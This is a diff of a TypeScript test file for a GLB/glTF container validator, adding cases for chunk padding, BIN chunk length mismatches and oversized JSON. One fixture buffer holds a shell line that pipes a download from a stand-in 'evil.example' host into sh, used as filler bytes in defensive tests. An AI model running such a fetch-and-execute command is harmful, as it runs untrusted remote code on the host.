@@ -9,7 +9,7 @@ import { makeSample } from '../../emulator/samples.ts'
 import { glbOf, instancedGlb } from '../../harness/models.ts'
 import { ModelError } from '../../src/errors.ts'
 import type { FileKind } from '../../src/formats.ts'
-import { containerCheck } from '../../src/engine/models/container.ts'
+import { containerCheck, MAX_JSON_BYTES } from '../../src/engine/models/container.ts'
 import { Deadline } from '../../src/engine/models/deadline.ts'
 import { readZipDirectory } from '../../src/engine/models/usdz.ts'
 
@@ -43,6 +43,11 @@ const json = Buffer.from('{"asset":{"version":"2.0"}} ')
 const withBuffer = Buffer.from('{"asset":{"version":"2.0"},"buffers":[{"byteLength":4}]}    ')
 const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n   ')
 
+/** JSON padded with spaces to a multiple of 4 bytes, as a GLB's JSON chunk is. */
+function jsonChunk(text: string): Buffer {
+  return Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4, ' '))
+}
+
 /** A GLB of a JSON chunk and, when given, a BIN chunk. */
 function glbWith(jsonChunk: Buffer, bin?: Buffer): Buffer {
   const chunks = [chunkHeader(jsonChunk.length, 'JSON'), jsonChunk]
@@ -53,7 +58,10 @@ function glbWith(jsonChunk: Buffer, bin?: Buffer): Buffer {
 describe('the container of a GLB', () => {
   it.each([1, 7, 4096, Infinity])('holds together in pieces of %d bytes', pieceBytes => {
     const binary = glbWith(withBuffer, Buffer.from('abcd'))
-    for (const glb of [makeSample('glb', 'Chair'), instancedGlb(20, 3), glbOf(json), binary]) {
+    // More padding than the specification allows is only a warning to the glTF Validator.
+    const padded = glbWith(withBuffer, Buffer.alloc(16))
+    const glbs = [makeSample('glb', 'Chair'), instancedGlb(20, 3), glbOf(json), binary, padded]
+    for (const glb of glbs) {
       expect(() => check('glb', glb, Math.min(pieceBytes, glb.length))).not.toThrow()
     }
   })
@@ -119,9 +127,9 @@ describe('the container of a GLB', () => {
       /it has a BIN chunk that no buffer of its JSON uses/
     ],
     [
-      'a BIN chunk longer than buffer 0',
-      glbWith(withBuffer, script),
-      /its BIN chunk is 44 bytes, and buffer 0 declares 4/
+      'a BIN chunk shorter than buffer 0',
+      glbWith(jsonChunk('{"asset":{"version":"2.0"},"buffers":[{"byteLength":64}]}'), script),
+      /its BIN chunk is 44 bytes, and buffer 0 declares 64/
     ],
     [
       'buffer 0 in a BIN chunk it does not have',
@@ -134,6 +142,14 @@ describe('the container of a GLB', () => {
       expect(() => check('glb', file, pieceBytes)).toThrow(problem)
     }
   })
+})
+
+it('walks a GLB whose JSON is too large to parse, checking its layout only', () => {
+  const large = Buffer.alloc(MAX_JSON_BYTES + 4, ' ')
+  expect(() => check('glb', glbWith(large, script), 1024 * 1024)).not.toThrow()
+  expect(() =>
+    check('glb', withHeader(Buffer.concat([chunkHeader(large.length, 'JSON'), large]), 99))
+  ).toThrow(/the chunk at byte 12 runs past the 99 bytes declared/)
 })
 
 describe('the JSON of a glTF', () => {
